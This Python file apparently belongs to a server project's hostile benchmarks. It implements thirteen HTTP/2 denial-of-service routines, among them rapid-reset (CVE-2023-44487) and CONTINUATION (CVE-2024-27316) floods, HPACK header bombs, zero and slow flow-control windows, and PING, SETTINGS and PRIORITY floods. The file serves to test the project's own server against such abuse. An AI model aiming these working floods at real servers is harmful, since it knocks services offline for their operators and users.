"""Games with the windows of HTTP/2, and floods of its frames; without TLS, as the server allows that."""

from __future__ import annotations

import struct
from collections.abc import Callable

import hpack
import trio

from benchmarks.hostile.peer import Peer
from trio_sse._http2.error_code import ErrorCode
from trio_sse._http2.frames import (
    SETTINGS_ACK,
    Flag,
    FrameType,
    Setting,
    encode_block,
    encode_frame,
    encode_ping,
    encode_reset,
    encode_settings,
    encode_window_update,
)
from trio_sse._http2.preface import PREFACE

_STREAMS = 20


def _block(path: str, *further: tuple[str, str]) -> bytes:
    # Without the dynamic table, the block is the same for each request.
    fields = [(":method", "GET"), (":scheme", "http"), (":authority", "test"), (":path", path), *further]
    return bytes(hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(*field) for field in fields]))


_BULK = _block("/bulk")
_LARGE = _block("/large")


async def _open(peer: Peer, settings: dict[int, int], block: bytes, streams: int = _STREAMS) -> None:
    requests = [encode_block(2 * number + 1, block, ends_stream=True) for number in range(streams)]
    await peer.send(PREFACE + encode_settings(settings) + SETTINGS_ACK + b"".join(requests))


async def shut_windows(peer: Peer) -> None:
    """Open streams whose windows are zero, and never open them."""
    await _open(peer, {Setting.INITIAL_WINDOW_SIZE: 0}, _BULK)
    await peer.read()


async def shut_windows_of_responses(peer: Peer) -> None:
    """Ask for large responses with windows of zero."""
    await _open(peer, {Setting.INITIAL_WINDOW_SIZE: 0}, _LARGE)
    await peer.read()


async def slow_windows(peer: Peer) -> None:
    """Open the windows of streams by a byte a second."""
    await _open(peer, {Setting.INITIAL_WINDOW_SIZE: 0}, _BULK)
    async with trio.open_nursery() as nursery:
        nursery.start_soon(peer.read)
        while True:
            await trio.sleep(1)
            await peer.send(b"".join(encode_window_update(2 * n + 1, 1) for n in range(_STREAMS)))


async def unread_http2(peer: Peer) -> None:
    """Open streams with large windows, and read nothing from the socket."""
    window = {Setting.INITIAL_WINDOW_SIZE: 2**31 - 1}
    await _open(peer, window, _BULK)
    await peer.send(encode_window_update(0, 2**30))
    await peer.hold()


async def _flood(peer: Peer, make: Callable[[int], bytes]) -> None:
    """Send what `make` returns for 0, 1, 2, ... and read the answers."""
    await peer.send(PREFACE + encode_settings({}) + SETTINGS_ACK)
    async with trio.open_nursery() as nursery:

        async def read() -> None:
            await peer.read()
            nursery.cancel_scope.cancel()

        nursery.start_soon(read)
        for number in range(10_000_000):
            await peer.send(make(number))


async def rapid_resets(peer: Peer) -> None:
    """Open streams and reset them at once (CVE-2023-44487)."""

    def burst(number: int) -> bytes:
        frames = []
        for stream_id in range(200 * number + 1, 200 * number + 201, 2):
            frames.append(encode_block(stream_id, _BULK, ends_stream=True))
            frames.append(encode_reset(stream_id, ErrorCode.CANCEL))
        return b"".join(frames)

    await _flood(peer, burst)


async def pings(peer: Peer) -> None:
    """Send PING after PING."""
    await _flood(peer, lambda _: encode_ping(b"12345678") * 100)


async def settings(peer: Peer) -> None:
    """Send SETTINGS after SETTINGS."""
    await _flood(peer, lambda number: encode_settings({Setting.INITIAL_WINDOW_SIZE: number % 60_000}) * 100)


async def empty_data(peer: Peer) -> None:
    """Send DATA without bytes for a request."""
    post = _block("/upload").replace(b"GET", b"PUT")

    def burst(number: int) -> bytes:
        head = b"" if number else encode_block(1, post, ends_stream=False)
        return head + encode_frame(FrameType.DATA, 0, 1) * 100

    await _flood(peer, burst)


async def continuations(peer: Peer) -> None:
    """Send a header block that never ends (CVE-2024-27316)."""

    def burst(number: int) -> bytes:
        if not number:
            return encode_frame(FrameType.HEADERS, Flag.END_STREAM, 1, _BULK)
        return encode_frame(FrameType.CONTINUATION, 0, 1, b"") * 100

    await _flood(peer, burst)


async def header_bombs(peer: Peer) -> None:
    """Send small blocks that become large: one long field, a thousand times, from the table."""
    long = hpack.Encoder().encode([("x-bomb", "b" * 3900)])
    pseudo = _block("/bulk")

    def burst(number: int) -> bytes:
        block = pseudo + (long if number == 0 else b"") + b"\xbe" * 8000
        return encode_block(2 * number + 1, block, ends_stream=True)

    await _flood(peer, burst)


async def priorities(peer: Peer) -> None:
    """Send PRIORITY after PRIORITY."""
    payload = struct.pack(">IB", 0, 16)
    await _flood(peer, lambda _: encode_frame(FrameType.PRIORITY, 0, 1, payload) * 100)


async def window_updates(peer: Peer) -> None:
    """Open the connection's window by a byte, again and again."""
    await _flood(peer, lambda _: encode_window_update(0, 1) * 100)


async def unread_pings(peer: Peer) -> None:
    """Send PINGs, and read no answers."""
    await peer.send(PREFACE + encode_settings({}) + SETTINGS_ACK)
    while True:
        await peer.send(encode_ping(b"12345678") * 100)


ATTACKS = {
    f"http2_{attack.__name__}": attack
    for attack in (
        shut_windows,
        shut_windows_of_responses,
        slow_windows,
        unread_http2,
        rapid_resets,
        pings,
        settings,
        empty_data,
        continuations,
        header_bombs,
        priorities,
        window_updates,
        unread_pings,
    )
}
